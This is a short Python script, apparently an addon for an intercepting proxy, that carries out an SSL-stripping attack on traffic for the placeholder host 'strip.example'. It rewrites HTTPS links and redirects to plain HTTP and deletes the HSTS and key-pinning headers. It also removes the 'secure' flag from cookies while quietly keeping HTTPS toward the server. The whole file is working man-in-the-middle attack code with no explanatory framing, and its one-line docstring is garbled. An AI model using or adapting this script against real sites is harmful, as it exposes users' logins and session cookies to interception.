"""Makes pages of https pages of http, and goes to the server by https."""
import re
import urllib.parse

secure: set = set()


def request(flow):
    if flow.request.pretty_host not in ("strip.example", *secure):
        return
    flow.request.headers.pop("If-Modified-Since", None)
    flow.request.headers.pop("Cache-Control", None)
    if flow.request.pretty_host in secure:
        flow.request.scheme = "https"
        flow.request.port = 443
        flow.request.host = flow.request.pretty_host


def response(flow):
    if flow.request.pretty_host not in ("strip.example", *secure):
        return
    flow.response.headers.pop("Strict-Transport-Security", None)
    flow.response.headers.pop("Public-Key-Pins", None)
    flow.response.content = flow.response.content.replace(b"https://", b"http://")
    if flow.response.headers.get("Location", "").startswith("https://"):
        location = flow.response.headers["Location"]
        secure.add(urllib.parse.urlparse(location).hostname)
        flow.response.headers["Location"] = location.replace("https://", "http://", 1)
    cookies = [re.sub(r";\s*secure\s*", "", c, flags=re.I) for c in flow.response.headers.get_all("Set-Cookie")]
    flow.response.headers.set_all("Set-Cookie", cookies)
